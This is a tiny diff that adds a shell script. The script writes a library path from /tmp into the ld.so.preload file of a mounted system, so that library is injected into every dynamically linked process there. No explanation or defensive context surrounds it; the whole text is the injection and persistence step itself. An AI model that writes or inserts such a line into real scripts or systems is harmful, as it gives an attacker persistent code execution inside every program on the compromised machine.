@@ -1,0 +1,2 @@
+#!/bin/sh
+printf "%s\n" /tmp/a.so >> /mnt/etc/ld.so.preload
